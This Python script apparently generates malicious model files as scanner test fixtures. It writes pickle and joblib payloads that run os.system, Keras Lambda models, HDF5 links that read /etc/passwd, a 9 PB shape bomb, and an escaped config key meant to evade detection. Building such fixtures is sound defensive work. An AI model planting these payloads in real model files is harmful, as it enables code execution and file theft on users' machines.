#!/usr/bin/env python3
"""Makes hostile models that only the real libraries can write, in the folder that is named. Nothing of them is loaded."""
import bz2
import lzma
import os
import pickle
import sys

os.environ["KERAS_BACKEND"] = "jax"
import h5py
import joblib
import keras
import numpy as np
from sklearn.linear_model import LogisticRegression
from sklearn.preprocessing import FunctionTransformer

folder = sys.argv[1]
os.makedirs(folder, exist_ok=True)
at = lambda name: os.path.join(folder, name)


class Payload:
    def __init__(self, call, *args):
        self.made = (call, args)

    def __reduce__(self):
        return self.made


payload = Payload(os.system, "id")
for protocol in range(6):
    with open(at(f"payload-{protocol}.pkl"), "wb") as file:
        pickle.dump({"weights": np.zeros(3), "x": payload}, file, protocol)
model = LogisticRegression()
model.extra = payload
joblib.dump(model, at("model.joblib"))
joblib.dump([np.zeros(5000), payload], at("after-array.joblib"))
joblib.dump([np.array([payload], dtype=object)], at("in-array.joblib"))
joblib.dump([np.zeros(5000), payload], at("packed.joblib"), compress=3)
for packing in ("gzip", "bz2", "lzma", "xz", "lz4"):
    joblib.dump([np.zeros(5000), payload], at(f"packed-{packing}.joblib"), compress=(packing, 3))
joblib.dump(FunctionTransformer(os.system), at("transformer.joblib"))
np.save(at("objects.npy"), np.array([payload], dtype=object), allow_pickle=True)
np.savez(at("objects.npz"), a=np.array([payload], dtype=object))
for name, pack in {"bz2": bz2.compress, "xz": lzma.compress}.items():
    with open(at(f"payload.pkl.{name}"), "wb") as file:
        file.write(pack(pickle.dumps(payload)))

layers = keras.layers
lambdas = keras.Sequential([layers.Input((2,)), layers.Lambda(lambda x: x * 2)])
lambdas.save(at("lambda.keras"))
lambdas.save(at("lambda.h5"))
with h5py.File(at("external-link.h5"), "w") as file:
    file["secret"] = h5py.ExternalLink("/etc/passwd", "/x")
with h5py.File(at("external-data.h5"), "w") as file:
    file.create_dataset("secret", (10,), dtype="u1", external=[("/etc/passwd", 0, 10)])
with h5py.File(at("external-link-new.h5"), "w", libver="latest") as file:
    file["secret"] = h5py.ExternalLink("/etc/passwd", "/x")
# A loader makes room for 9 PB before it reads the little that is there.
for name, version in {"shape-bomb.h5": "earliest", "shape-bomb-new.h5": "latest"}.items():
    with h5py.File(at(name), "w", libver=version) as file:
        file.create_dataset("w", (50_000_000, 50_000_000), dtype="f4", chunks=(1000, 1000), compression="gzip")
with h5py.File(at("fixed.h5"), "w") as file:
    file.attrs.create("model_config", np.bytes_(b'{"class_name": "Sequential", "config": {"layers": [{"class\\u005fname": "Lambda", "config": {}}]}}'))
with h5py.File(at("nested.h5"), "w", track_order=True) as file:
    file.create_group("a").attrs["model_config"] = '{"class_name": "TFSMLayer", "config": {}}'
